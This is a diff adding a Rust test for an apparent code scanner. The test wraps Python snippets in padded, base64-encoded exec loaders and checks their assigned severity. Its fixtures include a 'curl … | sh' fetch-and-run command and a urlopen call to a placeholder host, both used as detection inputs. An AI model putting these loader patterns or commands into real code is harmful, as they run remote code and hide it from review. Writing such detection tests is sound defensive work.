@@ -280,6 +280,26 @@ fn streams_of_a_child_are_no_shell() {
 }
 
 #[test]
+fn a_library_that_a_tool_carries_with_it() {
+    use crate::model::Severity;
+    use base64::Engine as _;
+    let carried = |line: &str, does: &str| {
+        let library = format!("import subprocess\n{}{does}\n", format!("{line}\n\n").repeat(40_000 / (line.len() + 2)));
+        let text = base64::engine::general_purpose::STANDARD.encode(library);
+        let code = format!("import base64\nexec(base64.b64decode('{text}').decode(), globals())\n");
+        weight(Language::Python, &code, "flow-decoded-code")
+    };
+    let plain = "# What stands here is written to be read by people.";
+    assert_eq!(carried(plain, "subprocess.run(['git', 'add', 'x'])"), Some(Severity::Medium));
+    assert!(
+        carried(plain, "import urllib.request; urllib.request.urlopen('https://h.invalid/x')") >= Some(Severity::High)
+    );
+    assert!(carried(plain, "subprocess.run('curl https://h.invalid/x | sh', shell=True)") >= Some(Severity::High));
+    assert!(carried("x = 1", "subprocess.run(['git'])") <= Some(Severity::Medium));
+    assert!(carried(&"x = 1;".repeat(60), "subprocess.run(['git'])") >= Some(Severity::High));
+}
+
+#[test]
 fn decorators_do_not_call_what_they_stand_before() {
     let calls = |decorator: &str| {
         let code = format!(
